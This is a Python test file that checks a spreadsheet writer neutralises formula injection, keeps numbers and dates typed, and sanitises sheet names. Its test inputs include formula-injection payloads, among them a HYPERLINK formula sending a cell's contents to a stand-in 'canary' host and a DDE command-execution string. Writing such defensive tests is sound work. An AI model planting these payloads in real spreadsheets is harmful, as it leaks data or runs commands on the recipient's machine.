"""Spreadsheets: numbers are numbers, text is text whatever it begins with, sheets have names that hold."""

import io
import zipfile
from datetime import date

import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from kamlib.report.spreadsheet import RISKY, Cell, Sheet, sheet_name, spreadsheet, texts_of

FORMULAS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1",
    "\n=1",
    "\x00=1",
    "\u00a0=1",
    "\ufeff=1",
    "＝1+1",
    "＋1",
    "－1",
    "＠x",
]
FORMULAS += ["\u200b=1", " \u2068=1", "'=1", '=HYPERLINK("http://canary/?"&A1,"Open")', "=cmd|'/c calc'!A1"]
PLAIN = ["+49 89 1234567", "-", "Brindle = Works", "a@b.example", "00123", "1E5", "http://x/", "TRUE"]


def written(*rows: list[Cell], **named) -> openpyxl.Workbook:
    content = spreadsheet([Sheet("x", ["Head"] * len(rows[0]), rows, **named)])
    return openpyxl.load_workbook(io.BytesIO(content))


@pytest.mark.parametrize("text", FORMULAS)
def test_no_text_is_a_formula_and_each_is_quoted(text: str) -> None:
    (page,) = written([Cell(text)])
    assert (page["A2"].data_type, page["A2"].quotePrefix) == ("s", True)
    if text[0] != "\x00":  # openpyxl leaves the escape of what XML can't hold
        assert page["A2"].value.replace("_x000D_", "\r") == text


@pytest.mark.parametrize("text", PLAIN)
def test_other_text_reads_as_it_stands(text: str) -> None:
    (page,) = written([Cell(text)])
    assert (page["A2"].data_type, page["A2"].value) == ("s", text)
    assert page["A2"].quotePrefix == bool(RISKY.match(text))
    assert page["A2"].hyperlink is None


def test_numbers_and_days_stay_what_they_are() -> None:
    (page,) = written(
        [
            Cell(-1234.5, "money"),
            Cell(0.125, "percent"),
            Cell(3, "count"),
            Cell(date(2026, 1, 2), "date"),
            Cell(None),
        ]
    )
    values = [cell.value for cell in page[2]]
    assert values[:3] == [-1234.5, 0.125, 3]
    assert (page["D2"].value.date(), page["D2"].number_format) == (date(2026, 1, 2), "yyyy-mm-dd")
    assert page["A2"].number_format == "#,##0.00"
    assert page["E2"].value is None


def test_heads_are_text_too_and_stay_in_sight() -> None:
    (page,) = openpyxl.load_workbook(
        io.BytesIO(spreadsheet([Sheet("x", ["=1+1", "b"], [[Cell("a"), Cell(1.0)]])]))
    )
    assert page["A1"].data_type == "s"
    assert (page.freeze_panes, page.auto_filter.ref) == ("B2", "A1:B2")


def test_the_same_tables_are_the_same_bytes() -> None:
    sheets = [Sheet("x", ["a"], [[Cell("b")]])]
    assert spreadsheet(sheets) == spreadsheet(sheets)
    assert ">b<" in texts_of(spreadsheet(sheets))


def test_what_no_cell_can_hold_is_cut_and_what_no_xml_can_hold_is_replaced() -> None:
    (page,) = written([Cell("ä" * 40_000), Cell("a\ud800b"), Cell("a\ufffeb")])
    assert len(page["A2"].value) == 32_767 and page["A2"].value.endswith("…")
    assert page["B2"].value == "a?b"


@pytest.mark.parametrize(
    ("title", "name"),
    [
        ("Accounts", "Accounts"),
        ("a/b:c*d?e[f]g\\h", "a b c d e f g h"),
        ("'quoted'", "quoted"),
        ("History", "History 2"),
        ("", "2"),
        ("x" * 40, "x" * 30 + "…"),
        ("=1+1", "=1+1"),
        ("😀" * 20, "😀" * 15 + "…"),
        ("a\x00b\tc", "a b c"),
    ],
)
def test_names_of_sheets(title: str, name: str) -> None:
    assert sheet_name(title, ()) == name


def test_sheets_of_one_name_are_told_apart() -> None:
    taken: list[str] = []
    for title in ("Accounts", "accounts", "ACCOUNTS", "x" * 40, "x" * 50):
        taken.append(sheet_name(title, taken))
    assert len({name.casefold() for name in taken}) == 5 and max(map(len, taken)) <= 31


@given(st.lists(st.text(max_size=40), min_size=1, max_size=4))
def test_every_text_is_a_file_that_can_be_read_again(texts: list[str]) -> None:
    content = spreadsheet(Sheet(text, [text], [[Cell(text)]]) for text in texts)
    book = openpyxl.load_workbook(io.BytesIO(content))
    assert len(book.sheetnames) == len(texts)
    assert not any(cell.data_type == "f" for page in book for row in page.iter_rows() for cell in row)
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert not any(b"<f>" in archive.read(name) for name in archive.namelist())
